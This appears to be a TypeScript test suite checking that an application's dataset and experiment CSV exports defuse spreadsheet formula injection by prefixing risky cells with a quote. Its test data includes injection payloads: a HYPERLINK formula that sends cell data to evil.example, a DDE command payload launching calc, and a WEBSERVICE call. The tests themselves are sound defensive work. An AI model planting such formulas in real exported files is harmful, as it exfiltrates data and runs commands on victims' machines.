/**
 * Dataset and experiment CSV downloads are safe to open in a spreadsheet (docs/datasets.md,
 * "Downloads"; docs/experiments.md): cells a spreadsheet would run as formulas start with a single
 * quote; other cells, numbers included, are written as they are.
 */
import assert from 'node:assert/strict';
import { it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { expectStatus, unique } from '../helpers/auth.js';
import { getOk, request } from '../helpers/query.js';
import { describeEachDialect } from '../helpers/server.js';

/** Cells that Excel, LibreOffice or Google Sheets would run, as OWASP lists their first characters. */
const FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A2,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

describeEachDialect('CSV downloads are spreadsheet-safe', (server) => {
  const url = () => server().url;
  const rowsOf = async (path: string) => {
    const response = await fetch(`${url()}${path}`);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8');
    return parse(await response.text(), { relaxColumnCount: false }) as string[][];
  };

  it('dataset CSV: formula-like cells are prefixed with a quote; ordinary ones are not', async () => {
    const ids = ['=1+1', '@evil', 'plain-id', '-5'];
    const created = expectStatus(
      await request(url(), 'POST', '/v1/datasets/upload', {
        action: 'create',
        name: unique('csv-safe'),
        inputs: ids.map((_, i) => ({ i })),
        example_ids: ids,
      }),
      200,
    ).body.data;
    const rows = await rowsOf(`/v1/datasets/${created.dataset_id}/csv`);
    assert.deepEqual(rows[0], ['example_id', 'input', 'output', 'metadata']);
    assert.deepEqual(
      rows
        .slice(1)
        .map((row) => row[0])
        .sort(),
      ["'=1+1", "'@evil", '-5', 'plain-id'].sort(),
    );
  });

  it('experiment CSV: a run output or error that a spreadsheet would run is written inert', async () => {
    const upload = expectStatus(
      await request(url(), 'POST', '/v1/datasets/upload', {
        action: 'create',
        name: unique('csv-exp'),
        inputs: FORMULAS.map((_, i) => ({ i })),
      }),
      200,
    ).body.data;
    const examples = (await getOk(url(), `/v1/datasets/${upload.dataset_id}/examples`)).data.examples as { node_id: string }[];
    const experiment = expectStatus(await request(url(), 'POST', `/v1/datasets/${upload.dataset_id}/experiments`, { name: 'csv' }), 200)
      .body.data;
    for (const [index, formula] of FORMULAS.entries()) {
      expectStatus(
        await request(url(), 'POST', `/v1/experiments/${experiment.id}/runs`, {
          dataset_example_id: examples[index]!.node_id,
          output: formula,
          repetition_number: 1,
          start_time: '2026-01-01T00:00:00.000Z',
          end_time: '2026-01-01T00:00:01.000Z',
          error: index === 0 ? '=WEBSERVICE("https://evil.example")' : null,
        }),
        200,
      );
    }
    const [header, ...rows] = await rowsOf(`/v1/experiments/${experiment.id}/csv`);
    const output = header!.indexOf('output');
    const error = header!.indexOf('error');
    assert.ok(output > 0 && error > 0, header!.join(','));
    const outputs = rows.map((row) => row[output]);
    // -2+3 is a formula, not a number: it is defused too.
    assert.deepEqual(outputs.sort(), FORMULAS.map((formula) => `'${formula}`).sort());
    assert.ok(rows.some((row) => row[error] === '\'=WEBSERVICE("https://evil.example")'));
    assert.ok(
      rows.every((row) => row[header!.indexOf('repetition_number')] === '1'),
      'numbers stay numbers',
    );
  });
});
